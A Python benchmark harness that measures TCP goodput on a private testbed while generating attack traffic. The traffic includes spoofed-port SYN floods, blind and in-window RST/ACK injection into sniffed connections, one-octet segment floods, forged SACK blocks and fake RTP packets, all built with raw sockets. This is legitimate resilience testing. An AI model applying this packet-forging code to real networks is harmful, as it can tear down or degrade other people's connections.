"""An attacker together with honest transfers, for benches/attack-splits.sh.

bulk FLOWS SECONDS         transfers without end to and from port 5001, half of them uploads; prints their total goodput in
                           Mbit/s, without the first second, and how many were cut off
serve                      the server's end of these transfers, and of the attacker's connections (port 5002)
attack KIND RATE SECONDS   RATE packets per second, with forged addresses where the attack requires it:

  syn     SYNs to the client's port 5003 from spoofed ports
  reset   RSTs and ACKs for the honest connections, with random numbers, inside or outside the window
  exact   the same by an attacker who sees the connections: RSTs in the window but not at its edge, ACKs of data that was
          not sent, ACKs of earlier data
  tiny    an upload of the attacker in segments of one octet
  sack    ACKs for a download of the attacker, with SACK blocks of data that was not received
  rtp     UDP between RTP ports that begins like RTP but is not RTP

The attacks with a connection of their own come from the client, all others from the server's side.
"""

import asyncio
import os
import random
import socket
import struct
import sys
import threading
import time

SERVER, CLIENT = "10.88.1.2", "10.88.3.2"
BULK, OWN, CLOSED = 5001, 5002, 5003
FIN, SYN, RST, ACK = 1, 2, 4, 16


def checksum(octets):
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, destination, seq, ack, flags, options=b"", window=1000, payload=b""):
    """A TCP segment with its IPv4 header."""
    addresses = socket.inet_aton(source[0]) + socket.inet_aton(destination[0])
    offset = (20 + len(options)) // 4 << 4
    header = struct.pack("!HHIIBBHHH", source[1], destination[1], seq % 2**32, ack % 2**32, offset, flags, window, 0, 0)
    tcp = header + options + payload
    total = checksum(addresses + struct.pack("!HH", 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
    # The kernel fills in length and checksum.
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, random.getrandbits(16), 0, HOPS, 6, 0) + addresses + tcp


HOPS = 63  # of forged packets, so that this program does not take them for real ones


class Raw:
    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, octets):
        self.socket.sendto(octets, (socket.inet_ntoa(octets[16:20]), 0))


class Seen(threading.Thread):
    """Connections to a port, as seen by a listener on this host's link."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port = port
        self.link = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
        self.flows = {}  # direction -> fields of its latest segment: seq, ack, timestamps
        self.start()

    def run(self):
        while True:
            octets = self.link.recv(65_535)
            if len(octets) < 40 or octets[9] != 6 or octets[8] == HOPS:
                continue
            start = (octets[0] & 15) * 4
            source, destination, seq, ack, offset, flags = struct.unpack("!HHIIBB", octets[start : start + 14])
            if self.port not in (source, destination) or flags & (SYN | RST):
                continue
            options = octets[start + 20 : start + (offset >> 4) * 4]
            at = options.find(b"\x08\x0a")
            stamps = options[at + 2 : at + 10] if at >= 0 else bytes(8)
            length = struct.unpack("!H", octets[2:4])[0] - start - (offset >> 4) * 4
            ends = [(socket.inet_ntoa(octets[i : i + 4]), port) for i, port in ((12, source), (16, destination))]
            self.flows[tuple(ends)] = (seq + length, ack, stamps)

    def draw(self, is_from):
        flows = [(ends, state) for ends, state in list(self.flows.items()) if ends[0][0] == is_from]
        return random.choice(flows) if flows else None


def stamped(stamps):
    return b"\x01\x01\x08\x0a" + stamps


def forged(kind, here, seen):
    """A packet forged for an end on this host's side; None if no connection was seen."""
    drawn = seen.draw(here)
    if not drawn:
        return None
    (source, destination), (seq, ack, stamps) = drawn
    draw = random.getrandbits
    if kind == "reset":
        flags = random.choice((RST, RST | ACK, ACK))
        return segment(source, destination, draw(32), draw(32), flags, stamped(stamps))
    if kind == "exact":
        choice = random.randrange(3)
        if choice == 0:
            return segment(source, destination, seq + 10_000 + draw(12), ack, RST)
        beyond = 100_000 + draw(12)
        return segment(source, destination, seq, ack + beyond if choice == 1 else ack - beyond, ACK, stamped(stamps))
    left = ack + 1448 * random.randrange(1, 20)
    blocks = b"\x01\x01\x05\x0a" + struct.pack("!II", left % 2**32, (left + 1448 * random.randrange(1, 20)) % 2**32)
    return segment(source, destination, seq, ack, ACK, stamped(stamps) + blocks)


def attack(kind, rate, seconds):
    here = CLIENT if kind == "sack" else SERVER
    raw = Raw()
    seen = Seen(OWN if kind == "sack" else BULK) if kind in ("reset", "exact", "sack") else None
    if kind in ("tiny", "sack"):
        own = socket.create_connection((SERVER, OWN))
        own.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        own.send(b"D" if kind == "sack" else b"U")
        own.setblocking(False)
    if kind == "rtp":
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent, began = 0, time.monotonic()
    while (elapsed := time.monotonic() - began) < seconds:
        for _ in range(min(int(elapsed * rate) - sent, rate // 10)):
            try:
                if kind == "syn":
                    ends = ("10.88.1.2", random.randrange(1024, 65_536)), (CLIENT, CLOSED)
                    raw.send(segment(*ends, random.getrandbits(32), 0, SYN, b"\x02\x04\x05\xb4"))
                elif kind == "tiny":
                    own.send(b"x")
                elif kind == "rtp":
                    header = struct.pack("!BBHII", 0x80, random.getrandbits(7), random.getrandbits(16), 0, random.getrandbits(32))
                    udp.sendto(header + os.urandom(8), (CLIENT, random.randrange(16_384, 32_768)))
                elif packet := forged(kind, here, seen):
                    raw.send(packet)
            except OSError:
                pass
        sent = int(elapsed * rate)
        try:
            while kind == "sack" and own.recv(1 << 18):
                pass
        except OSError:
            pass
        time.sleep(0.002)


async def serve():
    async def bulk(reader, writer):
        try:
            upload = await reader.readexactly(1) != b"D"
            while upload and await reader.read(1 << 18):
                pass
            while not upload:
                writer.write(bytes(1 << 16))
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    await asyncio.start_server(bulk, SERVER, BULK, backlog=4096)
    await (await asyncio.start_server(bulk, SERVER, OWN, backlog=4096)).serve_forever()


def bulk(flows, seconds):
    counts, ended = [0] * flows, [True] * flows
    begin, over = time.monotonic() + 1, time.monotonic() + 1 + seconds

    def move(index):
        try:
            transfer(index)
        except OSError:
            pass

    def transfer(index):
        upload = index % 2 == 1
        with socket.create_connection((SERVER, BULK)) as own:
            own.settimeout(5)
            # Sent octets should count only when acknowledged; a small send buffer keeps the difference small.
            own.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 18)
            own.send(b"U" if upload else b"D")
            while (now := time.monotonic()) < over:
                try:
                    moved = own.send(bytes(1 << 14)) if upload else len(own.recv(1 << 18))
                except TimeoutError:
                    continue
                if not moved:
                    return
                if now > begin:
                    counts[index] += moved
        ended[index] = False

    threads = [threading.Thread(target=move, args=(index,)) for index in range(flows)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(f"{sum(counts) * 8 / seconds / 1e6:.2f} {sum(ended)}")


match sys.argv[1:]:
    case ["serve"]:
        asyncio.run(serve())
    case ["bulk", flows, seconds]:
        bulk(int(flows), float(seconds))
    case ["attack", kind, rate, seconds]:
        attack(kind, int(rate), float(seconds))
